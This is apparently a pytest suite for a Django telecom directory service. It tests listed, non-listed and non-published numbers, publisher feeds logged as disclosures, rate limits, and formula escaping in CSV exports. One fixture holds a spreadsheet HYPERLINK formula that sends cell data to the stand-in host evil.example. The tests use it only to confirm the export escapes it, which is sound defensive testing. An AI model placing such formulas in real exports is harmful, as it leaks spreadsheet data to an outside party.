"""P06: the listing choice decides where a number appears; the feed is a recorded disclosure."""

from __future__ import annotations

import csv
import hashlib
import io
from collections.abc import Callable
from pathlib import Path

import pytest
from django.core import mail
from django.core.management import call_command
from django.test import Client

from azultel.accounts.testing import staff_create
from azultel.core.actors import system_actor
from azultel.directory.models import AssistanceSearch, PublisherFeed
from azultel.directory.services import directory_feed_publish
from azultel.orders.models import PhoneLine
from azultel.privacy.models import DataSubject, Disclosure
from azultel.privacy.services import disclosure_log_verify

SEARCH = "/directory/"
ASSIST = "/staff/directory/"


def _numbers(html: str, lines: dict[str, PhoneLine]) -> set[str]:
    from azultel.directory.selectors import DirectoryEntry

    found = set()
    for key, line in lines.items():
        display = DirectoryEntry("", "", "", "", "", line.number).number_display
        if display in html:
            found.add(key)
    return found


@pytest.mark.promise("P06")
@pytest.mark.django_db
def test_public_directory_shows_listed_only(
    client: Client, three_lines: dict[str, PhoneLine]
) -> None:
    by_name = client.get(SEARCH, {"name": "Garcia", "city": "Miami"}).content.decode()
    by_number = {
        key: client.get(SEARCH, {"number": line.number}).content.decode()
        for key, line in three_lines.items()
    }

    assert _numbers(by_name, three_lines) == {"listed"}
    assert "Pedro" not in by_name and "Rosa" not in by_name
    assert "Lucia Garcia" in by_number["listed"]
    assert "No listed number matched" in by_number["non_listed"]
    assert "No listed number matched" in by_number["non_published"]


@pytest.mark.promise("P06")
@pytest.mark.django_db
def test_directory_assistance_finds_non_listed_never_non_published(
    client: Client, three_lines: dict[str, PhoneLine]
) -> None:
    operator = staff_create(role="directory_operator")
    client.force_login(operator)

    by_name = client.get(ASSIST, {"name": "Garcia"}).content.decode()
    by_number = client.get(ASSIST, {"number": three_lines["non_published"].number}).content.decode()

    assert _numbers(by_name, three_lines) == {"listed", "non_listed"}
    assert "Rosa" not in by_name
    assert "No listing matched" in by_number
    logged = list(
        AssistanceSearch.objects.order_by("id").values_list("operator", "name", "result_count")
    )
    assert logged == [(operator.pk, "Garcia", 2), (operator.pk, "", 0)]


@pytest.mark.promise("P06")
@pytest.mark.promise("P14")
@pytest.mark.django_db
def test_the_publisher_feed_holds_listed_only_and_is_a_verified_disclosure(
    three_lines: dict[str, PhoneLine],
) -> None:
    result = directory_feed_publish(
        actor=system_actor("directory-feed"),
        recipient="Regional Directory Publisher LLC",
        reference="publishing agreement 2026-04",
    )

    rows = list(csv.DictReader(io.StringIO(result.payload.decode())))
    assert [r["number"] for r in rows] == [three_lines["listed"].number]
    assert rows[0]["name"] == "Lucia Garcia"
    # (the placements behind the fixture disclosed identities to the credit bureau: not this)
    record = Disclosure.objects.get(basis="directory_publishing")
    assert record.record_count == 1
    listed_subject = DataSubject.objects.get(user=three_lines["listed"].service.customer)
    assert record.subject_ids == [str(listed_subject.pk)]
    assert PublisherFeed.objects.get().disclosure == record
    assert disclosure_log_verify() == []


@pytest.mark.promise("P06")
@pytest.mark.django_db(transaction=True)
def test_changing_the_choice_applies_at_once_and_is_confirmed(
    client: Client, make_line: Callable[..., PhoneLine]
) -> None:
    line = make_line(
        given="Ana",
        family="Ruiz",
        city="Miami",
        zip_code="33131",
        choice="listed",
        listed_name="Ana Ruiz",
    )
    make_line(
        given="Eva",
        family="Diaz",
        city="Miami",
        zip_code="33131",
        choice="listed",
        listed_name="Eva Diaz",
    )
    client.force_login(line.service.customer)
    mail.outbox.clear()

    before = client.get(SEARCH, {"name": "Ruiz", "city": "Miami"}).content.decode()
    response = client.post(
        "/account/directory/",
        {
            "number": line.number,
            f"{line.number}-choice": "non_published",
            f"{line.number}-listed_name": "",
        },
    )
    after = client.get(SEARCH, {"name": "Ruiz", "city": "Miami"}).content.decode()
    feed = directory_feed_publish(
        actor=system_actor("test"), recipient="Publisher", reference="ref"
    )

    assert "Ana Ruiz" in before
    assert response.status_code == 302
    assert "Ana Ruiz" not in after
    assert line.number not in feed.payload.decode()
    refreshed = PhoneLine.objects.get(pk=line.pk)
    assert refreshed.listing_choice == "non_published" and refreshed.listed_name == ""
    assert mail.outbox[-1].subject == "Your directory listing has changed"
    assert line.number not in mail.outbox[-1].body


@pytest.mark.promise("P06")
@pytest.mark.django_db
def test_an_empty_name_lists_the_customer_under_their_own_name(
    client: Client, make_line: Callable[..., PhoneLine]
) -> None:
    # Given Ana, listed under a business name
    line = make_line(
        given="Ana",
        family="Ruiz",
        city="Miami",
        zip_code="33131",
        choice="listed",
        listed_name="Ruiz Tailoring",
    )
    client.force_login(line.service.customer)

    # When she empties the name to list, as the page says to for her own name
    response = client.post(
        "/account/directory/",
        {
            "number": line.number,
            f"{line.number}-choice": "non_listed",
            f"{line.number}-listed_name": "",
        },
    )

    # Then she is kept under her own name, and the business name is gone
    assert response.status_code == 302
    refreshed = PhoneLine.objects.get(pk=line.pk)
    assert (refreshed.listing_choice, refreshed.listed_name) == ("non_listed", "Ana Ruiz")
    page = client.get("/account/directory/").content.decode()
    assert "Leave empty for your own name." in page
    assert "Ruiz Tailoring" not in page
    # and the number is written for people, never in its stored +1 form
    heading = page.split('id="line-1">', 1)[1].split("</h2>", 1)[0]
    assert heading == f"({line.number[2:5]}) {line.number[5:8]}-{line.number[8:]}"


@pytest.mark.promise("P06")
@pytest.mark.django_db
def test_a_customer_cannot_change_someone_elses_listing(
    client: Client, three_lines: dict[str, PhoneLine]
) -> None:
    intruder = three_lines["non_published"].service.customer
    target = three_lines["listed"]
    client.force_login(intruder)

    response = client.post(
        "/account/directory/", {"number": target.number, f"{target.number}-choice": "non_published"}
    )

    assert response.status_code == 404
    assert PhoneLine.objects.get(pk=target.pk).listing_choice == "listed"


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("query", "field", "message"),
    [
        ({"name": "G", "city": "Miami"}, "name", "at least two letters"),
        ({"name": "Garcia"}, "city", "Add a city or choose a state"),
        ({"number": "555"}, "number", "Enter a 10-digit US phone number"),
        ({"name": "Garcia", "state": "ZZ"}, "state", "Select a valid choice"),
    ],
)
def test_vague_or_bad_searches_get_a_clear_message(
    client: Client, query: dict[str, str], field: str, message: str
) -> None:
    response = client.get(SEARCH, query)

    assert response.status_code == 400
    block = response.content.decode().split(f'id="id_{field}_error"', 1)[1].split("</ul>", 1)[0]
    assert message in block


@pytest.mark.django_db
def test_public_search_is_paged_capped_and_rate_limited(
    client: Client, make_line: Callable[..., PhoneLine], settings: object
) -> None:
    for i in range(12):
        make_line(
            given=f"Person{i}",
            family="Smith",
            city="Miami",
            zip_code="33131",
            choice="listed",
            listed_name=f"Person{i:02d} Smith",
        )

    first = client.get(SEARCH, {"name": "Smith", "city": "Miami"}).content.decode()
    second = client.get(SEARCH, {"name": "Smith", "city": "Miami", "page": "2"}).content.decode()
    deep = client.get(SEARCH, {"name": "Smith", "city": "Miami", "page": "999"})
    for _ in range(40):
        last = client.get(SEARCH, {"name": "Smith", "city": "Miami"})

    assert first.count("<tr><td>") == 10 and "Next page" in first
    assert second.count("<tr><td>") == 2 and "Next page" not in second
    assert deep.status_code == 200 and "No listed number matched" in deep.content.decode()
    assert last.status_code == 429


@pytest.mark.django_db
def test_search_costs_the_same_queries_whatever_the_directory_size(
    client: Client, make_line: Callable[..., PhoneLine], django_assert_num_queries
) -> None:  # type: ignore[no-untyped-def]
    make_line(
        given="One",
        family="Brown",
        city="Miami",
        zip_code="33131",
        choice="listed",
        listed_name="One Brown",
    )
    with django_assert_num_queries(1):
        client.get(SEARCH, {"name": "Brown", "city": "Miami"})
    for i in range(5):
        make_line(
            given=f"P{i}",
            family="Brown",
            city="Miami",
            zip_code="33131",
            choice="listed",
            listed_name=f"P{i} Brown",
        )
    with django_assert_num_queries(1):
        client.get(SEARCH, {"name": "Brown", "city": "Miami"})


@pytest.mark.django_db
def test_arbitrary_search_input_never_causes_a_server_error(client: Client) -> None:
    from hypothesis import HealthCheck, given, settings
    from hypothesis import strategies as st

    @settings(max_examples=40, deadline=None, suppress_health_check=list(HealthCheck))
    @given(
        st.dictionaries(
            st.sampled_from(["name", "city", "state", "number", "page"]), st.text(max_size=60)
        )
    )
    def search_anything(query: dict[str, str]) -> None:
        from django.core.cache import cache

        cache.clear()
        response = client.get(SEARCH, {k: v.replace("\x00", "") for k, v in query.items()})
        assert response.status_code in (200, 400)

    search_anything()


FORMULA_NAME = '=HYPERLINK("http://evil.example/?d="&A1,"Lucia")'


@pytest.fixture
def formula_line(make_line: Callable[..., PhoneLine]) -> PhoneLine:
    """A listed customer who typed a spreadsheet formula as the name to list."""
    return make_line(
        given="Lucia",
        family="Garcia",
        city="Miami",
        zip_code="33131",
        choice="listed",
        listed_name=FORMULA_NAME,
    )


def _feed_rows(payload: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(payload.decode(), newline="")))


@pytest.mark.promise("P14")
@pytest.mark.django_db
def test_a_listed_name_that_is_a_formula_is_published_as_text(formula_line: PhoneLine) -> None:
    # When the publisher feed is made
    result = directory_feed_publish(
        actor=system_actor("test"), recipient="Publisher", reference="ref"
    )

    # Then the name is written as text (a leading quote), the E.164 number as it is
    rows = _feed_rows(result.payload)
    assert [(r["name"], r["number"]) for r in rows] == [("'" + FORMULA_NAME, formula_line.number)]
    assert b"\n=" not in result.payload and b",=" not in result.payload
    # And the disclosure record's digest is that of the escaped bytes that were handed over
    record = Disclosure.objects.get(basis="directory_publishing")
    assert record.payload_digest == hashlib.sha256(result.payload).hexdigest()
    assert PublisherFeed.objects.get().payload_digest == record.payload_digest
    assert disclosure_log_verify() == []


@pytest.mark.promise("P14")
@pytest.mark.django_db
def test_the_staff_feed_download_escapes_formulas(client: Client, formula_line: PhoneLine) -> None:
    # Given a privacy officer
    client.force_login(staff_create(role="privacy_officer"))

    # When the feed is downloaded from the staff page
    response = client.post(
        "/staff/directory/feed/", {"recipient": "Publisher", "reference": "agreement 7"}
    )

    # Then the download holds the name as text, and its digest is the one recorded
    assert response.status_code == 200
    assert [r["name"] for r in _feed_rows(response.content)] == ["'" + FORMULA_NAME]
    record = Disclosure.objects.get(basis="directory_publishing")
    assert record.payload_digest == hashlib.sha256(response.content).hexdigest()


@pytest.mark.promise("P14")
@pytest.mark.django_db
def test_the_feed_command_writes_formulas_as_text(formula_line: PhoneLine, tmp_path: Path) -> None:
    # When the feed is written by the management command
    out = tmp_path / "feed.csv"
    call_command("directory_feed", "--out", str(out), "--reference", "ref", stdout=io.StringIO())

    # Then the file holds the name as text, and its digest is the one recorded
    written = out.read_bytes()
    assert [r["name"] for r in _feed_rows(written)] == ["'" + FORMULA_NAME]
    record = Disclosure.objects.get(basis="directory_publishing")
    assert record.payload_digest == hashlib.sha256(written).hexdigest()
